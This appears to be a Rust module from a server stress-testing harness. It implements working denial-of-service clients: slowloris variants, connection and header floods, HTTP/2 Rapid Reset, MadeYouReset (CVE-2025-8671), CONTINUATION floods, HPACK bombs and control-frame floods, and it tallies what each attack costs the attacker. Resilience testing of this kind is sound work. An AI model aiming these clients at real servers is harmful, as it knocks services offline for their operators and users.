//! Clients that mean harm, each in one way, for as long as they are let.

mod frames;

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use rustix::time::{ClockId, clock_gettime};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::watch;
use tokio::task::LocalSet;
use tokio::time::{sleep, timeout};

use crate::trouble::Trouble;
use frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, bomb, frame, greeting, request,
};

/// One way to do harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    SlowHead,
    SlowBody,
    SlowRead,
    ConnectionFlood,
    HeaderFlood,
    RapidReset,
    MadeYouReset,
    ContinuationFlood,
    HpackBomb,
    PingFlood,
    SettingsFlood,
    WindowFlood,
    TinyData,
}

impl Attack {
    pub(crate) const ALL: [Self; 13] = [
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowRead,
        Self::ConnectionFlood,
        Self::HeaderFlood,
        Self::RapidReset,
        Self::MadeYouReset,
        Self::ContinuationFlood,
        Self::HpackBomb,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::WindowFlood,
        Self::TinyData,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::SlowHead => "slow head",
            Self::SlowBody => "slow body",
            Self::SlowRead => "slow read",
            Self::ConnectionFlood => "connection flood",
            Self::HeaderFlood => "header flood",
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made-you-reset",
            Self::ContinuationFlood => "CONTINUATION flood",
            Self::HpackBomb => "HPACK bomb",
            Self::PingFlood => "PING flood",
            Self::SettingsFlood => "SETTINGS flood",
            Self::WindowFlood => "WINDOW_UPDATE flood",
            Self::TinyData => "one-octet DATA frames",
        }
    }

    /// How many connections do it at once.
    fn connections(self) -> usize {
        match self {
            Self::SlowHead => 1_000,
            Self::SlowBody => 300,
            Self::SlowRead => 50,
            Self::ConnectionFlood => 20,
            _ => 10,
        }
    }

    /// What one connection does. The number says how often it was asked already; none: it ends.
    fn step(self, number: u32) -> Option<Step> {
        let (first, trickle) = match self {
            Self::SlowHead => (
                "GET / HTTP/1.1\r\nHost: x.test\r\nX-A: ",
                Step::Send(b"a".to_vec()),
            ),
            Self::SlowBody => (
                "POST / HTTP/1.1\r\nHost: x.test\r\nContent-Length: 1000000\r\n\r\n",
                Step::Send(b"x".to_vec()),
            ),
            Self::SlowRead => (
                "GET /?size=4194304 HTTP/1.1\r\nHost: x.test\r\n\r\n",
                Step::Read(1),
            ),
            Self::ConnectionFlood => return (number == 0).then_some(Step::Pause(PAUSE)),
            Self::HeaderFlood => {
                let field = format!("X-A: {}\r\n", "a".repeat(4_000)).repeat(10);
                let head = format!("GET / HTTP/1.1\r\nHost: x.test\r\n{field}");
                return (number == 0).then_some(Step::Send(head.into_bytes()));
            }
            _ => return Some(self.http2(number)),
        };
        Some(match number {
            0 => Step::Send(first.as_bytes().to_vec()),
            number if number % 2 == 1 => Step::Pause(TRICKLE),
            _ => trickle,
        })
    }

    fn http2(self, number: u32) -> Step {
        match number {
            0 => Step::Send(greeting()),
            number if number % 2 == 1 => Step::Pause(PAUSE),
            number => Step::Send(self.burst(number / 2)),
        }
    }

    /// Frames, a few hundred at a time.
    fn burst(self, number: u32) -> Vec<u8> {
        let streams = (0..100).map(|n| 2 * (100 * (number - 1) + n) + 1);
        let get = |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &request(GET));
        let repeat = |frame: Vec<u8>| frame.repeat(400);
        match self {
            Self::RapidReset => streams
                .flat_map(|stream| {
                    [
                        get(stream),
                        frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                    ]
                })
                .flatten()
                .collect(),
            Self::MadeYouReset => streams
                .flat_map(|stream| [get(stream), made_to_reset(stream)])
                .flatten()
                .collect(),
            Self::ContinuationFlood if number == 1 => frame(HEADERS, 0, 1, &request(GET)),
            Self::ContinuationFlood => {
                frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(800))
            }
            Self::HpackBomb => {
                let stream = 2 * number + 1;
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb(10_000))
            }
            Self::PingFlood => repeat(frame(PING, 0, 0, &[0; 8])),
            Self::SettingsFlood => repeat(frame(SETTINGS, 0, 0, &[])),
            Self::WindowFlood => repeat(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
            Self::TinyData if number == 1 => frame(HEADERS, END_HEADERS, 1, &request(POST)),
            Self::TinyData => repeat(frame(DATA, 0, 1, b"x")),
            _ => Vec::new(),
        }
    }
}

/// The six ways to make a server reset a stream that it works on (CVE-2025-8671), in turn.
fn made_to_reset(stream: u32) -> Vec<u8> {
    match (stream / 2) % 6 {
        0 => frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
        1 => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
        2 => frame(HEADERS, END_STREAM | END_HEADERS, stream, &request(GET)),
        3 => frame(DATA, 0, stream, b"x"),
        4 => frame(PRIORITY, 0, stream, &[0; 4]),
        _ => frame(
            PRIORITY,
            0,
            stream,
            &[&stream.to_be_bytes()[..], &[0]].concat(),
        ),
    }
}

/// Between two octets of a slow client.
const TRICKLE: Duration = Duration::from_secs(1);
/// Between two bursts, and how long a flooding connection lasts.
const PAUSE: Duration = Duration::from_millis(20);
/// Within this all of them have begun.
const RAMP: Duration = Duration::from_secs(1);
/// Longer than anything is waited for.
const WRITE_MAX: Duration = Duration::from_secs(2);

enum Step {
    Send(Vec<u8>),
    /// Reads so many octets, and no more.
    Read(usize),
    Pause(Duration),
}

/// What an attack has cost those who did it.
#[derive(Debug, Default)]
pub(crate) struct Spent {
    pub(crate) connections: u64,
    pub(crate) octets: u64,
    pub(crate) cpu: Duration,
}

/// Attackers at work, on a thread of their own.
pub(crate) struct Attackers {
    stop: watch::Sender<bool>,
    thread: JoinHandle<Spent>,
}

#[derive(Default)]
struct Counted {
    connections: AtomicU64,
    octets: AtomicU64,
}

impl Attackers {
    pub(crate) fn start(attack: Attack, target: SocketAddr) -> Result<Self, Trouble> {
        let (stop, stopped) = watch::channel(false);
        let thread = thread::Builder::new().name("attack".to_owned());
        let thread = thread.spawn(move || run(attack, target, stopped));
        let thread = thread.map_err(|why| Trouble::io("no thread", why))?;
        Ok(Self { stop, thread })
    }

    /// They go away, and say what it cost them.
    pub(crate) fn stop(self) -> Spent {
        let _ = self.stop.send(true);
        self.thread.join().unwrap_or_default()
    }
}

fn run(attack: Attack, target: SocketAddr, stopped: watch::Receiver<bool>) -> Spent {
    let counted = Arc::<Counted>::default();
    let Ok(runtime) = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    else {
        return Spent::default();
    };
    let all = async {
        let between = RAMP / attack.connections() as u32;
        for number in 0..attack.connections() as u32 {
            let (counted, mut stopped) = (counted.clone(), stopped.clone());
            tokio::task::spawn_local(async move {
                tokio::select! {
                    _ = stopped.wait_for(|stop| *stop) => {}
                    () = async {
                        sleep(between * number).await;
                        attacker(attack, target, &counted).await;
                    } => {}
                }
            });
        }
        let _ = stopped.clone().wait_for(|stop| *stop).await;
    };
    LocalSet::new().block_on(&runtime, all);
    let cpu = clock_gettime(ClockId::ThreadCPUTime);
    Spent {
        connections: counted.connections.load(Relaxed),
        octets: counted.octets.load(Relaxed),
        cpu: Duration::new(cpu.tv_sec.unsigned_abs(), cpu.tv_nsec.unsigned_abs() as u32),
    }
}

/// One connection after the other.
async fn attacker(attack: Attack, target: SocketAddr, counted: &Counted) {
    loop {
        if let Ok(Ok(stream)) = timeout(WRITE_MAX, TcpStream::connect(target)).await {
            counted.connections.fetch_add(1, Relaxed);
            play(attack, stream, counted).await;
        }
        sleep(PAUSE).await;
    }
}

/// Until the other side has had enough, or there is nothing more to do.
async fn play(attack: Attack, mut stream: TcpStream, counted: &Counted) {
    let _ = stream.set_zero_linger();
    let mut answers = vec![0; 16 << 10];
    for number in 0.. {
        let went = match attack.step(number) {
            None => return,
            Some(Step::Pause(time)) => {
                sleep(time).await;
                true
            }
            Some(Step::Read(len)) => matches!(stream.read(&mut answers[..len]).await, Ok(1..)),
            Some(Step::Send(octets)) => {
                counted.octets.fetch_add(octets.len() as u64, Relaxed);
                let sent = timeout(WRITE_MAX, stream.write_all(&octets)).await;
                matches!(sent, Ok(Ok(())))
            }
        };
        // Who floods takes the answers, so that nothing but the flood is in the way.
        let reads = attack != Attack::SlowRead;
        let closed = reads && matches!(stream.try_read(&mut answers), Ok(0));
        if !went || closed {
            return;
        }
    }
}
